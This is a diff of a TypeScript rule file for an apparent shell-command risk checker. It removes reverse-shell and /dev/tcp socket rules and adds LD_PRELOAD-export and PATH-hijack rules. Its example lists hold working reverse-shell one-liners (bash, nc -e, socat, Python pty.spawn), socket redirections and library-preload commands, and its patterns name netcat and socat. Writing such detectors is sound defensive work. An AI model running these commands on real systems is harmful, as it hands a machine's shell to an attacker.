@@ -1,8 +1,6 @@
-// Rules about code of unknown origin reaching an interpreter, and about shells handed to somebody else.
-import { INTERPRETERS, SHELLS } from '../wrappers.ts'
-import { inPlace, type LineRule, matching, only, type Rule, tools } from './rule.ts'
-
-const SOCKET = /^\/dev\/(?:tcp|udp)\//
+// Rules about code of unknown origin reaching an interpreter, and about what makes commands mean something else.
+import type { Arg, SimpleCommand } from '../model.ts'
+import { inPlace, type LineRule, matching, type Rule, tools } from './rule.ts'
 
 export const LINE_RULES: readonly LineRule[] = [
   {
@@ -208,88 +206,35 @@ export const CODE_RULES: readonly Rule[] = [
     },
   },
   {
-    id: 'reverse-shell',
-    level: 'critical',
-    why: 'Hands this machine’s shell to another machine.',
-    tools: ['*'],
-    when: (c) => {
-      if (SHELLS.has(c.name))
-        return c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target)
-      if (/^(?:nc|ncat|netcat)$/.test(c.name))
-        return matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/).filter(
-          () => c.args.some((arg) => /sh\b|bash|cmd|exec|perl|python/.test(arg.text)),
-        )
-      if (c.name === 'socat')
-        return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
-          c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
-        )
-      const code = isInterpreter(c.name)
-        ? matching(c.args, /socket|fsockopen|TCPSocket|\/inet\/tcp|net\.connect/i)
-        : []
-      return code.filter((arg) => /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&/.test(arg.text))
-    },
-    examples: {
-      risky: [
-        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
-        'nc -e /bin/sh 10.0.0.1 4444',
-        'ncat --exec /bin/bash h 1',
-        'socat TCP:h:1 EXEC:/bin/sh',
-        'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
-        'perl -e \'use Socket;exec("/bin/sh -i")\'',
-        'nc -lvpe /bin/sh 1',
-      ],
-      harmless: [
-        'nc -zv host 22',
-        'socat - TCP:h:1',
-        "python3 -c 'import socket; print(socket.gethostname())'",
-        'bash -i',
-        'nc -l 1234',
-      ],
-    },
-  },
-  {
-    id: 'socket-open',
-    level: 'high',
-    why: 'Ties this shell to a network connection, as a reverse shell does.',
-    tools: tools('exec'),
-    when: (c) =>
-      c.redirections.filter((r) => r.operator === '<>' && SOCKET.test(r.target.text)).map((r) => r.target),
-    examples: {
-      risky: ['exec 5<>/dev/tcp/10.0.0.1/80', '0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196'],
-      harmless: ['exec 5<>file', 'exec > log.txt'],
-    },
-  },
-  {
-    id: 'socket-redirect',
-    level: 'moderate',
-    why: 'Opens a network connection through a redirection.',
-    tools: ['*'],
-    when: (c) =>
-      only(
-        !SHELLS.has(c.name),
-        c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
-      ),
-    examples: {
-      risky: ['echo x > /dev/tcp/h/22', 'echo x > /dev/udp/h/1'],
-      harmless: ['ls > /dev/null', 'curl h'],
-    },
-  },
-  {
     id: 'preload',
     level: 'high',
     why: 'Every program started so runs that library’s code first.',
     tools: ['*'],
     when: (c) =>
-      c.assignments
-        .filter(
-          (set) =>
-            /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/.test(set.name) &&
-            /^\/(?:tmp|var\/tmp|dev\/shm)\/|^\.|^[^/]+\//.test(set.value.text),
-        )
-        .map((set) => set.value),
+      valuesSet(
+        c,
+        /^(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/,
+        /^\/(?:tmp|var\/tmp|dev\/shm)\/|^\.|^[^/]+\//,
+      ),
     examples: {
-      risky: ['LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=./x.so id'],
+      risky: ['LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=./x.so id', 'export LD_PRELOAD=/tmp/x.so'],
       harmless: ['LD_PRELOAD=/usr/lib/libjemalloc.so redis-server', 'LD_PRELOAD= ls'],
+    },
+  },
+  {
+    id: 'path-open',
+    level: 'moderate',
+    why: 'Commands are then looked for first in a directory where anybody may put a program of the same name.',
+    tools: ['*'],
+    when: (c) =>
+      valuesSet(c, /^PATH$/, /^(?:\.?|\/(?:tmp|var\/tmp|dev\/shm)(?:\/[^:]*)?)(?::|$)|::|:\.(?::|$)/),
+    examples: {
+      risky: ['export PATH=.:$PATH', 'PATH=/tmp/bin:$PATH ls', 'export PATH=$PATH:.'],
+      harmless: [
+        'export PATH=$HOME/bin:$PATH',
+        'PATH=./node_modules/.bin:$PATH eslint',
+        'export PATH=/usr/local/bin:$PATH',
+      ],
     },
   },
   {
@@ -300,7 +245,7 @@ export const CODE_RULES: readonly Rule[] = [
     when: (c) =>
       matching(
         c.args,
-        /fork\s+while\s+(?:fork|1|true)|while\s*(?:\(?1\)?|True)[:{ ]*\s*(?:os\.)?fork|loop\s*\{\s*fork/,
+        /fork\s+while\s+(?:fork|1|true)|while\s*(?:\(?1\)?|True)[:{ ]*\s*(?:os\.)?fork|loop\s*\{\s*fork|fork\(\)\s+for\s+_/,
       ),
     examples: {
       risky: [
@@ -328,6 +273,15 @@ export const CODE_RULES: readonly Rule[] = [
   },
 ]
 
-function isInterpreter(name: string): boolean {
-  return Object.hasOwn(INTERPRETERS, name) || /^(?:g|m)?awk$/.test(name)
+/** Values that the command gives to variables of that name, in front of it or by declaring them. */
+function valuesSet(c: SimpleCommand, name: RegExp, value: RegExp): Arg[] {
+  const set = c.assignments
+    .filter((it) => name.test(it.name) && value.test(it.value.text))
+    .map((it) => it.value)
+  if (!/^(?:export|declare|typeset|readonly|set|setenv)$/.test(c.name)) return set
+  const declared = c.args.filter((arg) => {
+    const [, left = '', right = ''] = /^(\w+)=([\s\S]*)$/.exec(arg.text) ?? []
+    return name.test(left) && value.test(right)
+  })
+  return [...set, ...declared]
 }
